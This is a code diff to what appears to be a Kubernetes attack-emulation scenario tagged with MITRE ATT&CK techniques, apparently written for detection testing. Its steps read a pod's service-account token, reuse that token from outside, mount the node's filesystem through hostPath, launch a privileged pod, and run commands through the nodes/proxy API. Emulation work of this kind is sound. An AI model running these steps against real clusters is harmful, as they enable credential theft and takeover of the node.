@@ -20,7 +20,7 @@ func Stratus(s *stage.Stage) {
 	api := s.Pod("payments", "app=api")
 	var stolen string
 	s.Attack("T1552.007", "Credential Access: Access container service account", "reads a service account's token by exec in "+api.String()).
-		As(thief).Do(func(a *stage.Act) {
+		As(thief).On(api).Do(func(a *stage.Act) {
 		stolen = a.Must("-n", api.Namespace, "exec", api.Name, "--", "cat", stage.TokenFile)
 	})
 	s.Attack("T1550.001", "Credential Access: Access container service account", "uses the stolen token from outside").
@@ -58,9 +58,10 @@ func Stratus(s *stage.Stage) {
 		As(thief).Do(func(a *stage.Act) {
 		a.MustApply(hostPathPod("default", "node-check", imageAlpine), "create", "-f", "-")
 	})
-	s.PodNamed("default", "node-check")
+	s.Wrote(thief, "default", "Pod/node-check")
+	check := s.PodNamed("default", "node-check")
 	s.Attack("T1611", "Privilege Escalation: hostPath mount", "lists the files of the node's pods there").
-		As(thief).Do(func(a *stage.Act) { a.Must("exec", "node-check", "--", "ls", "/host/var/lib/kubelet/pods") })
+		As(thief).On(check).Do(func(a *stage.Act) { a.Must("exec", "node-check", "--", "ls", "/host/var/lib/kubelet/pods") })
 	s.Attack("T1610", "Privilege Escalation: Privileged container", "runs a privileged pod in the node's namespaces").
 		As(thief).Do(func(a *stage.Act) { a.MustApply(privilegedPod("default", "node-shell"), "create", "-f", "-") })
 
@@ -71,7 +72,7 @@ func Stratus(s *stage.Stage) {
 		}
 	})
 	s.Attack("T1609", "Execution: Exec into container", "runs a command in "+api.String()+" through nodes/proxy").
-		As(thief).Do(func(a *stage.Act) {
+		As(thief).On(api).Do(func(a *stage.Act) {
 		a.Request("curl/8.5.0", "POST", fmt.Sprintf("/api/v1/nodes/node1/proxy/run/%s/%s/api?cmd=id", api.Namespace, api.Name), "")
 	})
 }
